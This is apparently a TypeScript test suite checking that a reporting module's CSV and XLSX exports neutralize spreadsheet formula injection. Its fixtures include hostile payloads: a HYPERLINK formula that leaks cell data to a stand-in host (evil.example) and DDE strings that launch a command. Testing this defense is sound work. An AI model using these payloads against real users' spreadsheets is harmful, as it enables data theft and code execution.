import ExcelJS from 'exceljs';
import { label, type ReportDocument } from '../../reports/document';
import { neutralizeFormula, renderCsv } from '../../reports/render/csv';
import { renderXlsx } from '../../reports/render/xlsx';

/**
 * Text in reports comes from customers' files and integrators (descriptions, references, names).
 * Exported to CSV and opened in a spreadsheet, a cell starting with = + - @ ran as a formula
 * (`=HYPERLINK(…)`, DDE); it must read as the text it is. Amounts keep their sign.
 */
describe('exported reports never carry a live formula', () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    '-2+3',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
  ];
  const document: ReportDocument = {
    title: label('差异报告', 'Difference report'),
    issuer: '=EVIL()',
    orientation: 'portrait',
    fileName: 'differences',
    blocks: [
      { type: 'fields', fields: [{ label: label('客户', 'Customer'), value: '@customer' }] },
      {
        type: 'table',
        columns: [
          { title: label('摘要', 'Description'), kind: 'text' },
          { title: label('金额', 'Amount'), kind: 'amount' },
        ],
        rows: hostile.map((text) => [text, '-1500.00']),
        footer: [label('合计', 'Total'), '+9000.00'],
      },
    ],
  };

  it('CSV: each such cell is text with a leading apostrophe; plain amounts stay numbers', () => {
    const csv = renderCsv(document, 'en').toString('utf8');
    const cells = csv
      .replace(/^\uFEFF/, '')
      .split(/\r?\n(?=(?:[^"]*"[^"]*")*[^"]*$)/)
      .flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/))
      .map((cell) => cell.replace(/^"|"$/g, '').replace(/""/g, '"'))
      .filter(Boolean);
    for (const cell of cells) {
      if (/^[-+]?\d+(\.\d+)?$/.test(cell)) continue;
      expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(cells).toContain('-1500.00');
    expect(cells).toContain('+9000.00');
    expect(cells).toContain("'=EVIL()");
    expect(cells).toContain("'@customer");
    expect(cells).toContain(`'${hostile[0]}`);
  });

  it('neutralizeFormula: formulas get an apostrophe, numbers and ordinary text do not', () => {
    expect(hostile.map(neutralizeFormula)).toEqual(hostile.map((text) => `'${text}`));
    expect(['-1500.00', '+3', '1,500.00', '2026-10-01', 'INV-001', '货款'].map(neutralizeFormula)).toEqual([
      '-1500.00',
      '+3',
      '1,500.00',
      '2026-10-01',
      'INV-001',
      '货款',
    ]);
  });

  it('XLSX: the same text is stored as a string cell, never a formula', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await renderXlsx(document, 'en')) as unknown as ArrayBuffer);
    let formulas = 0;
    let found = 0;
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula) formulas += 1;
          // XML reads a lone CR back as LF.
          if (hostile.some((text) => text.replace('\r', '\n') === String(cell.value).replace('\r', '\n')))
            found += 1;
        }),
      ),
    );
    expect(formulas).toBe(0);
    expect(found).toBe(hostile.length);
  });
});
